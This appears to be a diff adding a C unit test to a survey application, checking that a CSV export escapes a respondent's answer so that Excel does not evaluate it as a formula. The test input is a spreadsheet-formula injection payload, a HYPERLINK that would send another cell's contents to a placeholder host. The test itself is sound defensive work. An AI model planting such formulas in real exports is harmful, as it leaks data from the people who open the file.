@@ -273,6 +273,28 @@ Test(survey_results, csv_and_table)
 	cr_expect(strstr(out.data, "opted out"), "%s", out.data);
 }
 
+/* E6 by the link: words a spreadsheet would run as a formula. */
+static void e6(struct survey_answers *a, const struct survey_template *t)
+{
+	(void)t;
+	set(a, 1, choices, "C");
+	set(a, 3, value, "1");
+	set(a, 5, text, "=HYPERLINK(\"http://x.test/?\"&B2,\"看\")");
+}
+
+/* A respondent's words are never a formula in the export Excel opens;
+ * numbers stay numbers. */
+Test(survey_results, the_export_runs_no_formula)
+{
+	char *csv;
+
+	respond("E6", "link", NULL, e6);
+	cr_assert_eq(crmgate("survey export 回访"), 0, "%s", errout.data);
+	csv = strstr(out.data, "\r\nE6,");
+	cr_assert(csv, "%s", out.data);
+	cr_expect(strstr(csv, ",不满意,,1,,\"'=HYPERLINK(\"\"http://x.test/?\"\"&B2,\"\"看\"\")\"\r\n"), "%s", csv);
+}
+
 Test(survey_results, export_one_row_per_respondent)
 {
 	char *file = xstrfmt("%s/export.csv", dir), *csv;
